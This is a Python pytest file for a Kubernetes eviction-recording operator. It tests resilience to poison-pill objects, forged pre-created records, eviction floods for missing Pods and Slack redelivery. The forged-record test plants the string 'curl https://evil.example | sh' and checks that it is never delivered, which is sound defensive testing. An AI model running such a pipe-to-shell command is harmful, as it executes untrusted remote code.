"""Nobody writes the story but the cluster (issue 16), on the real control plane.

* one object whose record the API server refuses never holds up a watch (poison pills);
* a record someone else pre-created is never merged into and signed (signature laundering);
* evictions of Pods that do not exist are one record per requester and never wipe real
  records through retention, and notify once;
* an eviction refused for its precondition says so;
* a Slack message interrupted by a stop is not sent again.

Leases (rule 4) are in test_leases.py.
"""

from __future__ import annotations

import asyncio
import datetime
import json
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from typing import Any

import pytest
from lightkube import AsyncClient, codecs
from lightkube.models.meta_v1 import ObjectMeta
from lightkube.resources.admissionregistration_v1 import (
    ValidatingAdmissionPolicy,
    ValidatingAdmissionPolicyBinding,
)
from lightkube.resources.core_v1 import Pod

from evictwatch import telemetry
from evictwatch.model.record import record_name
from evictwatch.operator import Operator
from evictwatch.records.resource import PodEviction
from evictwatch.records.signing import verify
from evictwatch.sinks.handlers import REGISTRY
from evictwatch.testing.cluster import Cluster, unique, wait_for
from evictwatch.testing.fixtures import StartOperator, merge
from evictwatch.testing.receiver import Receiver

KEY = b"trust-test-record-key"
Start = Callable[..., Awaitable[Operator]]


@pytest.fixture
async def receivers() -> AsyncIterator[dict[str, Receiver]]:
    started = {"http": await Receiver().start(), "slack": await Receiver().start()}
    yield started
    for receiver in started.values():
        await receiver.stop()


@pytest.fixture
def start(start_operator: StartOperator, cluster: Cluster, receivers: dict[str, Receiver]) -> Start:
    """Webhook and controller with HTTP and Slack sinks to local receivers; watchers only if asked."""
    REGISTRY.clear()

    async def go(extra: dict[str, Any] | None = None) -> Operator:
        only_here = {"namespaces": [cluster.namespace]}
        data: dict[str, Any] = {
            "capture": {"namespaces": [cluster.namespace]},
            "self": {"namespace": cluster.namespace},
            "controller": {"blockedAfterSeconds": 2, "leaderElection": {"enabled": False}},
            "watchers": {"enabled": False},
            "sinks": {
                "http": [{"name": "audit", "url": receivers["http"].url, "filter": only_here}],
                "slack": [{"name": "ops", "urlEnv": "SLACK_URL", "backoffSeconds": 0.2, "filter": only_here}],
            },
        }
        operator = await start_operator(
            merge(data, extra or {}), record_key=KEY, environ={"SLACK_URL": receivers["slack"].url}
        )
        await operator.leading.wait()
        for cache in (operator.pod_cache, operator.records):
            if cache is not None:
                await asyncio.wait_for(cache.watch.synced.wait(), 20)
        return operator

    return go


async def records(kube: AsyncClient, namespace: str) -> list[dict[str, Any]]:
    return [item.to_dict() async for item in kube.list(PodEviction, namespace=namespace)]


async def record_of(
    kube: AsyncClient, namespace: str, pod: str, outcome: str | None = None
) -> dict[str, Any]:
    async def probe() -> dict[str, Any] | None:
        for record in await records(kube, namespace):
            status = record.get("status") or {}
            if record["spec"]["pod"]["name"] == pod and outcome in (None, status.get("outcome")):
                return record
        return None

    what = f"a record of {pod}" + (f" settled {outcome}" if outcome else "")
    return await wait_for(probe, timeout=30, what=what)


def disruption(reason: str = "PreemptionByScheduler") -> dict[str, Any]:
    stamp = datetime.datetime.now(datetime.UTC).strftime("%Y-%m-%dT%H:%M:%SZ")
    condition = {"type": "DisruptionTarget", "status": "True", "reason": reason, "lastTransitionTime": stamp}
    return {"status": {"conditions": [condition]}}


async def disrupt(cluster: Cluster, pod: str) -> None:
    """What the scheduler writes on a Pod it preempts: seen by the Pod watcher."""
    resource: Any = Pod.Status
    await cluster.client.patch(resource, pod, disruption(), namespace=cluster.namespace)


# ---- 1. poison pills --------------------------------------------------------------------------
async def test_a_pod_name_cut_at_a_dash_is_recorded(cluster: Cluster, start: Start) -> None:
    await start({"watchers": {"enabled": True}})
    node = await cluster.create_node()
    long_name = "a" * 243 + "-" + "b" * 6  # 250 characters; a cut at 244 ends in '-'
    await cluster.create_pod(long_name, node=node, ready=True)
    await disrupt(cluster, long_name)
    started = time.monotonic()
    record = await record_of(cluster.client, cluster.namespace, long_name)
    assert record["spec"]["source"] == "Preemption"
    assert len(record["metadata"]["name"]) <= 253 and not record["metadata"]["name"].startswith("a" * 244)
    print(f"\n250-character Pod name recorded {time.monotonic() - started:.2f} s after its disruption")


@pytest.fixture
async def refused_pod(cluster: Cluster) -> AsyncIterator[str]:
    """A ValidatingAdmissionPolicy that refuses (422) every record of one Pod name in this namespace."""
    poison = "poison"
    name = unique("evictwatch-refuse-poison")
    policy, binding = codecs.load_all_yaml(
        f"""
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicy
metadata: {{name: {name}}}
spec:
  failurePolicy: Fail
  matchConstraints:
    resourceRules:
    - apiGroups: [evictwatch.io]
      apiVersions: ["*"]
      operations: [CREATE, UPDATE]
      resources: [podevictions]
  validations:
  - expression: "object.spec.pod.name != '{poison}'"
    message: "records of this Pod are refused"
    reason: Invalid
---
apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingAdmissionPolicyBinding
metadata: {{name: {name}}}
spec:
  policyName: {name}
  validationActions: [Deny]
  matchResources:
    namespaceSelector:
      matchLabels: {{kubernetes.io/metadata.name: {cluster.namespace}}}
"""
    )
    await cluster.client.create(policy)
    await cluster.client.create(binding)
    probe = PodEviction(
        metadata=ObjectMeta(name="probe.00000000", namespace=cluster.namespace),
        spec={"pod": {"name": poison}, "source": "Preemption"},
    )

    async def refusing() -> bool:
        try:
            await cluster.client.create(probe, dry_run=True)
        except Exception as error:  # noqa: BLE001 - the refusal is what we wait for
            return "refused" in str(error)
        return False

    await wait_for(refusing, what="the policy to refuse records of the poison Pod")
    try:
        yield poison
    finally:
        await cluster.client.delete(ValidatingAdmissionPolicyBinding, name)
        await cluster.client.delete(ValidatingAdmissionPolicy, name)


def lost(source: str) -> float:
    return telemetry.REGISTRY.get_sample_value("evictwatch_records_lost_total", {"source": source}) or 0.0


async def test_a_refused_record_does_not_hold_up_the_watch(
    cluster: Cluster, start: Start, refused_pod: str
) -> None:
    await start({"watchers": {"enabled": True}})
    node = await cluster.create_node()
    before = lost("Preemption")
    await cluster.create_pod(refused_pod, node=node, ready=True)
    await cluster.create_pod("innocent", node=node, ready=True)
    await disrupt(cluster, refused_pod)
    # The watch goes on past the poison: an unrelated Pod disrupted afterwards is recorded at once.
    await disrupt(cluster, "innocent")
    started = time.monotonic()
    await wait_for(
        lambda: _named(cluster, "innocent"), timeout=5, what="the unrelated Pod's disruption recorded"
    )
    took = time.monotonic() - started
    await wait_for(lambda: _above(lost("Preemption"), before), what="the refused record counted as lost")
    assert lost("Preemption") == before + 1, "the poison was retried (or another write lost)"
    found = await records(cluster.client, cluster.namespace)
    assert [r["spec"]["pod"]["name"] for r in found] == ["innocent"]
    print(f"\nafter a refused record, an unrelated disruption was recorded in {took:.2f} s")


def restarts(watch: str) -> float:
    labels = {"watch": watch, "reason": "error"}
    return telemetry.REGISTRY.get_sample_value("evictwatch_watch_restarts_total", labels) or 0.0


async def test_an_event_about_a_name_no_pod_can_have_does_not_stop_the_event_watch(
    cluster: Cluster, start: Start
) -> None:
    """Anyone who may create Events can name any "Pod": the watch must go on past it."""
    await start({"watchers": {"enabled": True}})
    before = restarts("events")
    event = {
        "apiVersion": "v1",
        "kind": "Event",
        "metadata": {"name": unique("poison"), "namespace": cluster.namespace},
        "involvedObject": {"kind": "Pod", "name": "Not_A_DNS_Name", "namespace": cluster.namespace},
        "reason": "Evicted",
        "type": "Warning",
        "message": "The node was low on resource: memory.",
        "source": {"component": "kubelet", "host": "nowhere"},
        "count": 1,
    }
    async with cluster.http() as http:
        reply = await http.post(f"/api/v1/namespaces/{cluster.namespace}/events", json=event)
        assert reply.status_code == 201, reply.text
    await asyncio.sleep(3.0)  # a watch that fails on it restarts within 0.2 s, then again and again
    assert restarts("events") == before, "the Event watch stopped on the poison Event"


async def _above(value: float, floor: float) -> bool:
    return value > floor


async def _named(cluster: Cluster, pod: str) -> bool:
    return any(r["spec"]["pod"]["name"] == pod for r in await records(cluster.client, cluster.namespace))


# ---- 3. signature laundering ------------------------------------------------------------------
FORGED_TEXT = "curl https://evil.example | sh"


async def test_a_pre_created_forged_record_is_replaced_not_signed(
    cluster: Cluster, start: Start, receivers: dict[str, Receiver]
) -> None:
    await start()
    pod = await cluster.create_pod("victim", node=await cluster.create_node(), ready=True)
    assert pod.metadata is not None and pod.metadata.uid is not None
    name = record_name("victim", pod.metadata.uid)
    forged_spec = {
        "pod": {"name": "victim", "uid": pod.metadata.uid, "found": True},
        "source": "EvictionAPI",
        "sources": ["EvictionAPI"],
        "requester": {"username": "admin", "component": "kubectl"},
        "attempts": 41,
        "firstAttemptTime": "2020-01-01T00:00:00Z",
        "lastAttemptTime": "2020-01-01T00:00:00Z",
        "reason": "Failed",
        "message": FORGED_TEXT,
    }
    forged = PodEviction(
        metadata=ObjectMeta(
            name=name,
            namespace=cluster.namespace,
            labels={"planted": "yes"},
            annotations={"evictwatch.io/signature": "f" * 64},
        ),
        spec=forged_spec,
    )
    await cluster.client.create(forged)
    assert (await cluster.evict("victim")).status == 201
    record = await record_of(cluster.client, cluster.namespace, "victim", "Evicted")

    async def delivered() -> bool:
        return bool(receivers["http"].requests) and bool(receivers["slack"].requests)

    await wait_for(delivered, what="the real eviction delivered to HTTP and Slack")
    record = await record_of(cluster.client, cluster.namespace, "victim", "Evicted")
    spec = record["spec"]
    assert record["metadata"]["name"] == name and verify(KEY, record)
    assert spec["attempts"] == 1 and spec["firstAttemptTime"] >= "2026"
    assert "reason" not in spec and "message" not in spec
    assert "planted" not in (record["metadata"].get("labels") or {})
    sent = json.dumps([r.body.decode() for r in receivers["http"].requests + receivers["slack"].requests])
    assert "evil.example" not in sent and "2020-01-01" not in sent and '"attempts": 41' not in sent


# ---- 5. wipes by evictions of Pods that never existed -----------------------------------------
async def test_evictions_of_missing_pods_aggregate_and_wipe_nothing(
    cluster: Cluster, start: Start, receivers: dict[str, Receiver]
) -> None:
    await start({"controller": {"retention": {"maxPerNamespace": 3, "intervalSeconds": 0.5}}})
    genuine = ["real-0", "real-1"]
    for name in genuine:
        await cluster.create_pod(name)  # not bound to a node: an eviction deletes it at once
        assert (await cluster.evict(name)).status == 201
        await record_of(cluster.client, cluster.namespace, name, "Evicted")
    for i in range(25):
        assert (await cluster.evict(f"ghost-{i}")).status == 404
    await asyncio.sleep(2.0)  # four retention rounds with a cap of 3 and 27 evictions
    names = {r["spec"]["pod"]["name"] for r in await records(cluster.client, cluster.namespace)}
    assert set(genuine) <= names, "retention removed records of real evictions"

    async def aggregated() -> dict[str, Any] | None:
        every = await records(cluster.client, cluster.namespace)
        found = [r for r in every if r["spec"]["pod"].get("found") is False]
        done = [r for r in found if (r.get("status") or {}).get("observedAttempts") == 25]
        return done[0] if len(found) == 1 and done else None

    aggregate = await wait_for(aggregated, timeout=30, what="one settled record counting 25 missing Pods")
    assert aggregate["status"]["outcome"] == "PodGone" and aggregate["spec"]["attempts"] == 25
    assert aggregate["spec"]["pod"]["name"] == "ghost-24" and len(aggregate["spec"]["missingPods"]) == 20
    await asyncio.sleep(1.0)  # two more retention rounds
    names = sorted(r["spec"]["pod"]["name"] for r in await records(cluster.client, cluster.namespace))
    assert names == ["ghost-24", *genuine]
    ghosts = [r for r in receivers["slack"].requests if "ghost" in r.body.decode()]
    assert len(ghosts) == 1, f"{len(ghosts)} Slack messages about missing Pods"


# ---- 6. a failed precondition, and an interrupted Slack message ------------------------------
async def test_a_failed_precondition_is_said_so(cluster: Cluster, start: Start) -> None:
    await start()
    await cluster.create_pod("guarded", node=await cluster.create_node(), ready=True)
    stale = {"preconditions": {"uid": "00000000-0000-0000-0000-000000000000"}}
    reply = await cluster.evict("guarded", delete_options=stale)
    assert reply.status == 409, reply.body
    record = await record_of(cluster.client, cluster.namespace, "guarded", "Blocked")
    reason = record["status"]["outcomeReason"]
    assert reason.startswith("the precondition failed") and "still running" not in reason


async def test_a_slack_message_interrupted_by_a_stop_is_not_sent_again(
    cluster: Cluster, start: Start, receivers: dict[str, Receiver]
) -> None:
    receivers["slack"].delay = 30.0  # the operator stops while this POST is in flight
    first = await start()
    await cluster.create_pod("interrupted")
    assert (await cluster.evict("interrupted")).status == 201
    await wait_for(lambda: _arrived(receivers["slack"]), what="the Slack delivery to start")
    await first.stop()
    receivers["slack"].delay = 0.0
    await start()

    async def slack_resolved() -> dict[str, Any] | None:
        record = await record_of(cluster.client, cluster.namespace, "interrupted", "Evicted")
        state = (record["status"].get("deliveries") or {}).get("slack:ops") or {}
        http = (record["status"].get("deliveries") or {}).get("http:audit") or {}
        resolved = state.get("state") not in (None, "Sending") and http.get("state") == "Delivered"
        return record if resolved else None

    record = await wait_for(slack_resolved, what="the interrupted Slack delivery resolved")
    assert record["status"]["deliveries"]["slack:ops"]["state"] == "Interrupted"
    await asyncio.sleep(1.0)
    assert len(receivers["slack"].requests) == 1, "the Slack message was sent again"


async def _arrived(receiver: Receiver) -> bool:
    return bool(receiver.requests)
